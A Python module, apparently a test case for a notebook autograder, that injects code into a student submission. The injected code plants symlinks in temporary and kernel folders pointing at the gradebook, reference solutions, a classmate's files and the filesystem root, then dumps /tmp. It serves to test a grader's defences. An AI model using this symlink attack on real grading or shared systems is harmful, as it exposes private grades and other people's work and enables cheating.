"""Leaves links to the secrets where the grader will clean up and look."""

from submissions import with_extra

NOTEBOOK = "5_posiciones"
MARKS = {}
STATUS = "graded"
EXTRA = '''
import os
for number, target in enumerate(("{GRADEBOOK}", "{REFERENCE}", "{CLASSMATE}", "/", "{COURSE}")):
    for folder in ("/tmp", "/run/kernel", "/dev/shm"):
        for name in (f"link{number}", f"error{number}", f"{number}.ipynb"):
            try:
                os.symlink(target, os.path.join(folder, name))
            except OSError:
                pass
try:
    os.unlink("/run/kernel/error")
    os.symlink("{GRADEBOOK}", "/run/kernel/error")
except OSError as error:
    print(error)
for name in os.listdir("/tmp"):
    try:
        print(open(os.path.join("/tmp", name), "rb").read())
    except OSError as error:
        print(error)
'''


def change(notebook):
    return with_extra(notebook, EXTRA)
